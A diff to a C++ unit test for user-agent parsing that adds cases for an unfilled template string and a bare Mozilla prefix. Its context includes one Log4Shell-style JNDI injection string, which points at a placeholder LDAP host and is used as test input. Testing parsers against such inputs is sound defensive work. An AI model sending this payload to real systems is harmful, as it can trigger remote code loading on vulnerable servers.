@@ -55,6 +55,8 @@ TEST(ParseUserAgent, FlagsAutomationAndCrawlers) {
       {"StatusPage uptime checker", "checker"},
       {"LinkPreviewer/2.0 (contact: ops@example.org)", "LinkPreviewer"},
       {"${jndi:ldap://x.example.net/a}", "${jndi"},  // an injection payload
+      {"{{user_agent}}", "{{user_agent"},            // a template nobody filled in
+      {"Mozilla/5.0 (compatible)", "Mozilla"},       // the compatibility prefix and nothing
   };
   for (const BotCase& c : cases) {
     const UserAgentInfo info = ParseUserAgent(c.ua);
